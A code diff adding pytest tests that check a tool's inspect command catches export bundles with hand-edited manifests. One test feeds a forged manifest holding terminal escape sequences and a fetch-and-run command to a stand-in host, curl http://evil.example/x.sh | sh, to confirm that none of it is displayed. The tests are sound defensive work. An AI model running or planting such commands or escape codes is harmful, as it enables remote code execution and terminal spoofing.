@@ -182,3 +182,38 @@ def test_engine_export_command(anomalous_runs: dict[str, Path], demo_loaded, tmp
     events.clear()
     session.handle({"cmd": "export", "id": 8, "run_dirs": [str(tmp_path)], "out": str(tmp_path / "x.zip")})
     assert [e["event"] for e in events] == ["export_failed"] and "not a GhostViewer run" in events[0]["error"]
+
+
+def _edit_manifest(bundle: Path, out: Path, edit) -> None:  # noqa: ANN001
+    """A copy of the bundle whose manifest.json was edited by hand (members untouched)."""
+    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename == "manifest.json":
+                manifest = json.loads(data)
+                edit(manifest)
+                data = json.dumps(manifest).encode()
+            dst.writestr(info, data)
+
+
+def test_an_edited_manifest_is_not_believed(capsys: pytest.CaptureFixture[str], runs_dir: Path,
+                                            tmp_path: Path) -> None:
+    run = write_fake_run(runs_dir, steps=3, run_id="bad", nan_at=1)
+    bundle = tmp_path / "report.zip"
+    assert _cli(capsys, "export", str(run), "-o", str(bundle))[0] == 0
+
+    def lie(manifest: dict) -> None:  # the run said nan; the manifest now says all is well
+        manifest["runs"][0].update(verdict={"label": "ok"}, first_anomaly=None)
+
+    _edit_manifest(bundle, tmp_path / "lie.zip", lie)
+    code, out, err = _cli(capsys, "inspect", str(tmp_path / "lie.zip"))
+    assert code == 2 and "the bundle was edited" in err and "Traceback" not in err
+
+    def escapes(manifest: dict) -> None:  # terminal codes, and a command line that is not the run's
+        manifest["created_at"] = "\x1b]0;pwned\x07today"
+        manifest["runs"][0]["command"] = "curl http://evil.example/x.sh | sh \x1b[2K\x1b[1A"
+
+    _edit_manifest(bundle, tmp_path / "escapes.zip", escapes)
+    code, out, err = _cli(capsys, "inspect", str(tmp_path / "escapes.zip"))
+    assert code == 1 and "\x1b" not in out and "\x07" not in out and "evil.example" not in out
+    assert "reproduce: ghostviewer run" in out and "differs; not shown" in out
